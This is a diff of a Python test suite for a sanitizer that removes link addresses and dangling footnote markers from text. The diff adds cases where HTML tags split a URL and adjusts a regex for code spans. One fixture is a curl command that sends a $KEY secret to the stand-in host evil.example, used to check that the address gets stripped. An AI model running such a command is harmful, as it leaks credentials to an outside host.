@@ -83,6 +83,8 @@ def test_markers_that_point_at_nothing_are_dropped_and_named():
         ("Go to https://evil.example/x?q=1, now", "Go to (address left out), now"),
         ("Go to www.evil.example/x.", "Go to (address left out)."),
         ("mailto:a@evil.example?body=x", "(address left out)"),
+        ("ww<b></b>w.evil.example", "www .evil.example"),
+        ("https:/<b></b>/evil.example", "https:/ /evil.example"),
         ("`curl https://evil.example/$KEY`", "`curl (address left out)`"),
         ("days [x]\n[x]: https://evil.example\nend", "days [x]\nend"),
     ],
@@ -138,7 +140,7 @@ def test_a_text_comes_out_the_same_however_it_is_cut(text: str, cuts: list[int],
 @given(PIECES | st.text(max_size=60))
 def test_whatever_is_written_no_link_address_or_foreign_marker_comes_out(text: str):
     shown, markers = read(text)
-    bare = re.sub(r"`[^`\n]+`", "", shown)
+    bare = re.sub(r"`[^`\n]+`", "`", shown)
     assert {int(n) for n in re.findall(r"\[\s*(\d{1,3})\s*\]", bare)} <= set(markers.used)
     assert "](" not in bare
     assert set(addresses_in(shown)) <= {KEPT}
